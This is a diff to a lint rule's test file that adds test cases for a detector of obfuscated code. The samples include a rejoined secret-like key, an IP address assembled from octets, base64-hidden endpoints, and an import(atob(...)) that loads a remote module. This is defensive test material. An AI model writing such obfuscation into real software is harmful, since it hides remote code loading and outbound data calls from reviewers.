@@ -20,6 +20,10 @@ ruleTester(rule, {
     'const tag = html`<a href="https://x.example.com">`;',
   ],
   invalid: [
+    {
+      code: "const sharedKey = ['sk', 'live', '51NfQ2kJx8VqTz0aLm3YpR7cW9dHbE4uKs6gXo1iPnC5tA2yZ'].join('_');",
+      errors: [{ messageId: 'hidden', line: 1 }],
+    },
     { code: "const key = ['ran', 'dom'].join('');", errors: [{ messageId: 'hidden' }] },
     { code: "const m = 'ex' + 'ec';", errors: [{ messageId: 'hidden' }] },
     { code: 'const c = String.fromCharCode(99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114);', errors: [{ messageId: 'hidden' }] },
@@ -36,7 +40,21 @@ ruleTester(rule, {
     },
     { code: "const ENDPOINT = atob('aHR0cHM6Ly9ob29rcy5leGFtcGxlLmlvL2luZ2VzdA==');", errors: [{ messageId: 'hidden' }] },
     { code: "const host = [203, 0, 113, 9].join('.');", errors: [{ messageId: 'hidden' }] },
-    { code: "const octets = [198, 51, 100, 23];\nconst host = octets.join('.');", errors: [{ messageId: 'hidden', line: 2 }] },
+    {
+      // The pieces are written on another line: they are what the change commits, so the finding lands there.
+      code: "const octets = [198, 51, 100, 23];\nconst host = octets.join('.');",
+      errors: [
+        { messageId: 'encoded', line: 1, category: 'network' },
+        { messageId: 'disguised', line: 1, category: 'obfuscation' },
+      ],
+    },
+    {
+      code: "const EXTRA = 'aHR0cHM6Ly9jZG4ubG9jYWxlLWRhdGEuYXBwL3YyL2V4dHJhLWxvY2FsZXMubWpz';\nexport const more = () => import(atob(EXTRA));",
+      errors: [
+        { messageId: 'encoded', line: 1, category: 'network' },
+        { messageId: 'disguised', line: 1, category: 'obfuscation' },
+      ],
+    },
     {
       name: 'every use of a hidden address is hidden too',
       code: "const host = [203, 0, 113, 9].join('.');\npost(`http://${host}:8080/v1/usage`);",
